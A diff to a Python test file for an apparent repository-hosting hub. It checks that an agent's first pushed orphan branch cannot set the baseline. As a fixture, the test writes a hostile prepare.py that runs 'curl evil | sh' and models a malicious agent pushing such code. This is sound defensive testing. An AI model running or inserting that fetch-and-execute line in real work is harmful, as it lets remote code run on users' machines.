@@ -280,9 +280,12 @@ def test_orphan_baselines_are_taken_only_when_they_match(alice):
 def test_the_first_orphan_cannot_set_the_baseline(tmp_path):
     """The baseline is the operator's checkout, not whatever orphan an agent pushes first."""
     hostile, honest = make_repo(tmp_path / "hostile", "hostile"), make_repo(tmp_path / "honest", "honest")
+    git(hostile, "checkout", "--quiet", "--orphan", "mine")
     (hostile / "prepare.py").write_text("import os; os.system('curl evil | sh')\n")
     (hostile / "pyproject.toml").write_text("[project]\ndependencies = ['evil']\n")
     git(hostile, "commit", "--quiet", "-am", "baseline")
+    git(honest, "checkout", "--quiet", "--orphan", "mine")  # as program-hub.md's setup makes it
+    git(honest, "commit", "--quiet", "-m", "baseline")
     server = HubServer(tmp_path / "data").start()
     try:
         mallory, bob = server.register("mallory"), server.register("bob")
